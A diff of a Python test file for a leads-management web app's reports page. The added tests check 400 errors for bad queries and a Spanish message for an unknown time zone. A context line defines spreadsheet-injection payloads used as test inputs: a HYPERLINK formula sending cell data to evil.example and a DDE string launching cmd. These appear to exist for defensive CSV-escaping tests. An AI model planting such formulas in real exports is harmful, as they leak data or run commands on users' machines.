@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 import re
 from collections.abc import Callable
@@ -18,6 +19,7 @@ from leadsmanager.domain.roles import Role
 from leadsmanager.domain.status import LeadStatus
 from leadsmanager.entrypoints.bootstrap.container import Container
 from tests.web.conftest import PASSWORD, Staff, csrf_of
+from tests.web.test_languages import choose_language
 
 FIGURE = re.compile(r'data-figure="(\w+)">([^<]*)<')
 
@@ -94,6 +96,21 @@ def test_a_period_without_leads_says_so(as_role: Callable[[str], TestClient], wo
 def test_bad_input_is_named(as_role: Callable[[str], TestClient], staff: Staff, query: str, message: str) -> None:
     response = as_role("manager").get(f"/reports?{query}")
     assert response.status_code == 400 and message in response.text
+    # Said above the recent report, not instead of it, and what was typed is still in the form.
+    assert 'id="report-refused"' in response.text and 'data-figure="total">3<' in response.text
+    typed = dict(pair.split("=") for pair in query.split("&"))
+    assert all(f'name="{name}" value="{value}"' in response.text for name, value in typed.items() if name != "assignee")
+
+
+def test_a_time_zone_is_offered_as_it_is_typed_and_a_wrong_one_is_said_in_spanish(
+    as_role: Callable[[str], TestClient], staff: Staff
+) -> None:
+    manager = as_role("manager")
+    choose_language(manager, "es")
+    page = manager.get("/reports?tz=Buenos+Aires")
+    assert page.status_code == 400
+    assert "No se mostró: zona horaria desconocida 'Buenos Aires'" in html.unescape(page.text)
+    assert '<option value="America/Argentina/Buenos_Aires">' in page.text
 
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
